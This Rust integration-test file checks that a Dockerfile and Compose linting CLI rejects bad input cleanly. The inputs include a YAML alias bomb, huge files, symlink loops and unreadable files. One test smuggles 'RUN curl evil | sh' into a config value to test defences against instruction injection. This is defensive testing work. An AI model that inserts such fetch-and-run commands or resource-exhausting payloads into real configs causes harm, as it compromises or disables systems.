//! Bad Compose and app-config input through the real binary: a clear
//! `path:line:col: message`, exit 2, no panic, nothing written, bounded time.

use std::path::Path;
use std::time::{Duration, Instant};

use assert_cmd::Command;

fn run(dir: &Path, args: &[&str]) -> (i32, String) {
    let output = Command::cargo_bin("seaworthy")
        .unwrap()
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .args(args)
        .timeout(Duration::from_secs(60))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(!stderr.contains("panicked"), "{stderr}");
    (output.status.code().unwrap_or(-1), stderr)
}

/// Writes `content` as compose.yaml beside a good Dockerfile and checks that
/// both `check` and `fix --yes` refuse with `expected` and write nothing.
fn refused(content: &[u8], expected: &str) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("compose.yaml"), content).unwrap();
    std::fs::write(
        dir.path().join("Dockerfile"),
        "FROM python:3.12-slim\nEXPOSE 8000\n",
    )
    .unwrap();
    for args in [&["check"][..], &["fix", "--yes"][..]] {
        let started = Instant::now();
        let (code, stderr) = run(dir.path(), args);
        assert_eq!(code, 2, "{args:?}: {stderr}");
        assert!(
            stderr.contains(expected),
            "{args:?}: expected {expected:?} in {stderr}"
        );
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "too slow: {:?}",
            started.elapsed()
        );
    }
    assert_eq!(
        std::fs::read(dir.path().join("compose.yaml")).unwrap(),
        content
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("Dockerfile")).unwrap(),
        "FROM python:3.12-slim\nEXPOSE 8000\n",
        "nothing is written when any input is bad"
    );
}

#[test]
fn invalid_yaml() {
    refused(b"services:\n  api:\n    image: [nginx\n", "compose.yaml:");
}

#[test]
fn truncated_yaml_and_tabs() {
    refused(b"services:\n  api:\n    image: \"ngi", "compose.yaml:");
    refused(b"services:\n\tapi:\n\t\timage: nginx\n", "compose.yaml:2:");
}

#[test]
fn duplicate_keys() {
    refused(
        b"services:\n  api:\n    image: a\n    image: b\n",
        "compose.yaml:4:",
    );
}

#[test]
fn services_as_a_list() {
    refused(
        b"services:\n  - api\n  - db\n",
        "compose.yaml:2:3: error: `services` must be a mapping",
    );
}

#[test]
fn alias_bomb() {
    let mut text = String::from(
        "x-a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    let names = ["b", "c", "d", "e", "f", "g", "h", "i"];
    let mut previous = "a";
    for name in names {
        text.push_str(&format!("x-{name}: &{name} [*{previous},*{previous},*{previous},*{previous},*{previous},*{previous},*{previous},*{previous},*{previous}]\n"));
        previous = name;
    }
    text.push_str("services:\n  api:\n    image: nginx\n");
    refused(text.as_bytes(), "compose.yaml:");
}

#[test]
fn fifty_megabytes() {
    let mut text = b"services:\n  api:\n    image: nginx\n".to_vec();
    let line = b"# padding padding padding padding padding padding padding padding\n";
    while text.len() < 50 * 1024 * 1024 {
        text.extend_from_slice(line);
    }
    refused(&text, "compose.yaml:1:1: ");
}

#[test]
fn invalid_utf8_and_binary() {
    refused(
        b"services:\n  api:\n    image: \xff\xfe\n",
        "compose.yaml:3:",
    );
    refused(b"\x00\x01\x02services", "compose.yaml:1:1:");
}

#[test]
fn bad_app_config_toml() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("seaworthy.toml"),
        "[app_config]\npath = \"app.toml\"\nkey = \"gateway.health_port\"\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("app.toml"), "[gateway\nport = 1\n").unwrap();
    std::fs::write(
        dir.path().join("Dockerfile"),
        "FROM python:3.12-slim\nEXPOSE 8000\n",
    )
    .unwrap();
    let (code, stderr) = run(dir.path(), &["fix", "--yes"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("app.toml:1:"), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("app.toml")).unwrap(),
        "[gateway\nport = 1\n"
    );
}

fn write(dir: &Path, name: &str, content: &[u8]) {
    let path = dir.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

#[test]
fn ten_thousand_line_continuation() {
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::from("FROM python:3.12-slim\nRUN true");
    for i in 0..10_000 {
        text.push_str(&format!(" \\\n    && echo {i}"));
    }
    text.push_str("\nEXPOSE 8000\nCMD [\"app\"]\n");
    write(dir.path(), "Dockerfile", text.as_bytes());
    let started = Instant::now();
    let (code, stderr) = run(dir.path(), &["check"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn unterminated_heredoc() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        b"FROM alpine\nRUN <<EOF\necho hi\n",
    );
    let (code, stderr) = run(dir.path(), &["fix", "--yes"]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("Dockerfile:2:5: error: unterminated heredoc"),
        "{stderr}"
    );
}

#[cfg(unix)]
#[test]
fn symlink_loop_in_the_walked_tree() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "app/Dockerfile",
        b"FROM python:3.12-slim\nEXPOSE 8000\n",
    );
    std::os::unix::fs::symlink(dir.path(), dir.path().join("app/loop")).unwrap();
    std::os::unix::fs::symlink("loop-b", dir.path().join("loop-a")).unwrap();
    std::os::unix::fs::symlink("loop-a", dir.path().join("loop-b")).unwrap();
    let started = Instant::now();
    let (code, stderr) = run(dir.path(), &["check"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("1 file checked"), "{stderr}");
    assert!(started.elapsed() < Duration::from_secs(10));
}

#[cfg(unix)]
#[test]
fn unreadable_inputs_are_errors() {
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("missing", dir.path().join("Dockerfile")).unwrap();
    let (code, stderr) = run(dir.path(), &["check", "Dockerfile"]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("Dockerfile: error: no such file"),
        "{stderr}"
    );
    let fifo = dir.path().join("compose.yaml");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    if made.is_ok_and(|s| s.success()) {
        let (code, stderr) = run(dir.path(), &["check", "compose.yaml"]);
        assert_eq!(code, 2);
        assert!(
            stderr.contains("compose.yaml:1:1: error: not a regular file"),
            "{stderr}"
        );
    }
    let locked = dir.path().join("locked");
    write(
        &locked,
        "Dockerfile",
        b"FROM python:3.12-slim\nEXPOSE 8000\n",
    );
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        locked.join("Dockerfile"),
        std::fs::Permissions::from_mode(0o000),
    )
    .unwrap();
    if std::fs::read(locked.join("Dockerfile")).is_err() {
        let (code, stderr) = run(dir.path(), &["check", "locked"]);
        assert_eq!(code, 2);
        assert!(
            stderr.contains("locked/Dockerfile:1:1: error: cannot read"),
            "{stderr}"
        );
    }
}

#[test]
fn values_written_into_dockerfiles_cannot_inject_instructions() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "seaworthy.toml",
        b"[health]\nstyle = \"stage\"\nstage_image = \"alpine\\nRUN curl evil | sh\"\n",
    );
    write(
        dir.path(),
        "Dockerfile",
        b"FROM python:3.12-slim\nEXPOSE 8000\n",
    );
    let (code, stderr) = run(dir.path(), &["fix", "--yes"]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("seaworthy.toml:3:1: error: [health] stage_image must be"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read(dir.path().join("Dockerfile")).unwrap(),
        b"FROM python:3.12-slim\nEXPOSE 8000\n"
    );
}

#[cfg(unix)]
#[test]
fn one_read_only_file_means_nothing_is_written() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let before = b"FROM python:3.12-slim\nEXPOSE 8000\n";
    write(dir.path(), "a/Dockerfile", before);
    write(dir.path(), "b/Dockerfile", before);
    std::fs::set_permissions(
        dir.path().join("b/Dockerfile"),
        std::fs::Permissions::from_mode(0o444),
    )
    .unwrap();
    let (code, stderr) = run(dir.path(), &["fix", "--yes"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("b/Dockerfile: error: read-only"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read(dir.path().join("a/Dockerfile")).unwrap(),
        before,
        "a was written"
    );
    assert_eq!(
        std::fs::read(dir.path().join("b/Dockerfile")).unwrap(),
        before
    );
}
